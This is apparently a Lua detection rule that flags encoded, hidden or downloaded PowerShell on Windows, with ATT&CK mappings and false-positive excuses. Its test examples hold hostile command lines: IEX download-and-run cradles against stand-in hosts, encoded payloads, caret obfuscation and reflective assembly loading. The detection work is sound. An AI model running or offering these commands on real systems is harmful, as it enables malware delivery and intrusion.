-- PowerShell that hides its window or what it runs, or runs what comes from elsewhere.

local accusation = require "kaiseki.detect.accusation"
local asked = require "kaiseki.detect.asked"
local command = require "kaiseki.detect.command"
local places = require "kaiseki.detect.places"
local powershell = require "kaiseki.detect.powershell"
local say = require "kaiseki.detect.say"
local standing = require "kaiseki.detect.standing"
local tools = require "kaiseki.detect.tools"
local trusted = require "kaiseki.detect.trusted"

-- What installed programs, their agents and administrators have PowerShell do, too.
local ORDINARY = {
    ["encoded-command"] = true, ["user-script"] = true, ["windowless-command"] = true, ["piped-commands"] = true,
    ["old-version"] = true, download = true, ["script-elsewhere"] = true,
}

-- What weighs less than the rule: agents and setup programs, too, let nobody see their windows.
local LESS = { ["windowless-command"] = "medium", ["old-version"] = "medium", ["script-elsewhere"] = "medium" }

-- Besides PowerShell itself.
local TECHNIQUES = {
    ["encoded-command"] = "T1027.010", ["disguised-command"] = "T1027.010", ["loaded-code"] = "T1620",
    ["scanner-off"] = "T1685", ["old-version"] = "T1689", download = "T1105", ["downloaded-commands"] = "T1105",
    ["windowless-command"] = "T1564.003",
}

local commands = asked.new()

-- "| powershell", with or without a dash behind it.
local function is_fed(line)
    return line:find "|%s*\"?[%w:\\. ]-powershell" ~= nil or line:find "|%s*pwsh" ~= nil
end

local function is_cut_by_carets(line) return select(2, line:gsub("%a%^%a", "")) >= 2 end

local function subject_of(line, case)
    local found = command.first(line, function(each)
        local subject = powershell.subject(each, case)
        return subject and { subject = subject }
    end)
    local runs = found or command.first(line, powershell.is)
    if not runs then return nil end
    local weak = not found or LESS[found.subject] or found.subject == "piped-commands"
    if weak and is_cut_by_carets(line) then return { subject = "disguised-command" } end
    if weak and is_fed(line:lower()) then return { subject = "piped-commands" } end
    return found
end

-- The beginning of what an encoded command says.
local function decoded_text(line)
    return command.first(powershell.plain(line), function(each)
        local text = powershell.is(each) and powershell.encoded(each)
        local decoded = text and command.decoded(text)
        return decoded and decoded:find "^[%g%s]+$" and say.command(decoded:gsub("%s+", " "), 120) or nil
    end)
end

-- Installed programs and their agents work so, and so do administrators from afar.
local function excuse(finding, case)
    local process, what = finding.process, finding.key
    if not ORDINARY[what] then return nil end
    -- Editors and tools of developers hand their commands over so.
    if what == "piped-commands" and trusted.is_installed(case, process) then return "low" end
    if tools.in_tree(finding) then return standing.excuse(finding, case) end
    if trusted.is_bystander(case, process) then return "low" end
    if LESS[what] then return "low" end
    local by_hand = what == "user-script" or what == "download" or trusted.is_remote_management(process)
    if by_hand then return "medium" end
    return standing.excuse(finding, case)
end

local function example(line)
    return { operation = "Process Create", path = [[C:\Windows\System32\cmd.exe]], ["process.name"] = "a.exe",
             ["child.command_line"] = line }
end

rule {
    id = "execution.powershell",
    title = "Encoded, hidden or downloaded PowerShell",
    severity = "high",
    attack = { "T1059.001", "T1027.010", "T1620", "T1685", "T1689", "T1105", "T1564.003" },
    description = "PowerShell is given an encoded or disguised command, runs what it downloads, reads from a file or "
        .. "is handed by another program, loads code from memory, or runs a script that lies where users put files.",
    references = { "https://attack.mitre.org/techniques/T1059/001/" },
    false_positives = { "Management agents encode commands to get them past quoting; package managers install so." },
    author = "kaiseki",
    match = operation:is "Process Create"
        & child.command_line:contains { "powershell", "pwsh", "sqlps", "^", " -e", " /e", " -w", " -nop" },
    on_event = function(event, case)
        local found = subject_of(powershell.plain(event.child.command_line), case)
        if not found then return end
        local what = found.subject
        local severity = LESS[what]
        for _, technique in ipairs { "T1059.001", TECHNIQUES[what] } do
            commands:tell(case, event, { key = what, technique = technique, severity = severity })
        end
    end,
    on_complete = commands.complete,
    excuse = excuse,
    weigh = accusation.unless_accused,
    finding = function(finding)
        local line = finding.events[1].child.command_line
        local itself = finding.process and powershell.is_name(places.program(finding.process.name or ""))
        return { itself and "powershell-runs" or "run-powershell", subject = finding.key, command = line,
                 text = finding.key == "encoded-command" and decoded_text(line) or nil }
    end,
    examples = {
        match = {
            example "cmd /c po^wer^shell -w h", example "powershell.exe -wi h -c calc",
            example "cmd.exe /c echo iex(gc x.txt)|powershell -", example "pOWeRsHeLl -c Get-Date",
            example "powershell -c \"$a='i'+'ex';& $a (gc C:\\Users\\Public\\a.txt -raw)\"",
            example "powershell -c \"[Reflection.Assembly]::Load([IO.File]::ReadAllBytes('a.dat'))\"",
            example "powershell -c \"(New-Object Net.WebClient).DownloadFile('http://203.0.113.5/a.exe','a.exe')\"",
            example "conhost.exe --headless powershell -w h -c \"irm x.example|iex\"",
            example "a.pif -nop -w hidden -c calc", example "powershell -ec JABhAD0AMQA7AA==",
            example "powershell \xE2\x80\x93ep bypass \xE2\x80\x93w hidden \xE2\x80\x93c \"iex(iwr x.example/a)\"",
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "a.exe",
              ["child.command_line"] =
                  [[powershell -w hidden -c $a=[IO.File]::('txeTllAdaeR'[-1..-11] -join '')('C:\Users\x\b.bat')]] },
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "a.exe",
              ["child.command_line"] = "powershell -w 1 -ep Unrestricted -nop function a($b){-split($b)}" },
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "a.exe",
              ["child.command_line"] = "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA" },
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "a.exe",
              ["child.command_line"] =
                  [[powershell Start-BitsTransfer -Source http://203.0.113.5/a -Destination C:\ProgramData\a.exe]] },
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "explorer.exe",
              ["child.command_line"] = [[powershell.exe -ExecutionPolicy Bypass -File "C:\Users\x\Downloads\a.ps1"]] },
            { operation = "Process Create", path = [[C:\Windows\System32\cmd.exe]], ["process.name"] = "winword.exe",
              ["child.command_line"] =
                  [[cmd /c powershell "IEX (New-Object Net.WebClient).DownloadString('http://x')"]] },
        },
        no_match = {
            example "powershell -NoProfile -Command \"Get-Content 'C:\\Program Files\\a\\a.json' | ConvertFrom-Json\"",
            example "powershell -Version 5.1 -Command Get-Process",
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "agent.exe",
              ["child.command_line"] =
                  [[powershell -w hidden -ep bypass -Command "& 'C:\Program Files\Agent\run.ps1'"]] },
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "explorer.exe",
              ["child.command_line"] = [[powershell -ExecutionPolicy Bypass -File "C:\Program Files\Tool\check.ps1"]] },
            { operation = "Process Create", path = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]],
              ["process.name"] = "agent.exe",
              ["child.command_line"] = "powershell -NoProfile -Command Get-Service" },
        },
    },
}
